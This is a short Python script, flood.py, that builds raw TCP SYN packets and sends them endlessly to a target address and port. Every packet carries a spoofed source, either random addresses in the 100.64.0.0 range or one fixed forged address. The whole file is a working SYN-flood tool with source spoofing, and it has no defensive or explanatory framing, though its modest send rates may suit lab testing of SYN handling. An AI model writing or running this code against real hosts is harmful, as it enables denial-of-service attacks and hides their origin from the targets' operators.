"""flood.py ADDRESS PORT NETWORKS|SOURCE: SYNs from random addresses of NETWORKS networks (/16, from 100.64.0.0 on), a few hundred each second; or
three of them each second from the address SOURCE, which nobody has."""

import random
import socket
import struct
import sys
import time

target, port = socket.inet_aton(sys.argv[1]), int(sys.argv[2])
alone = socket.inet_aton(sys.argv[3]) if "." in sys.argv[3] else None


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
while True:
    source = alone or struct.pack("!BBH", 100, 64 + random.randrange(int(sys.argv[3])), random.randrange(1, 65535))
    tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), port, random.getrandbits(32), 0, 5 << 4, 2, 65535, 0, 0)
    tcp = tcp[:16] + struct.pack("!H", checksum(source + target + struct.pack("!HH", 6, len(tcp)) + tcp)) + tcp[18:]
    raw.sendto(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, random.getrandbits(16), 0, 64, 6, 0, source, target) + tcp, (sys.argv[1], 0))
    time.sleep(0.3 if alone else 0.003)
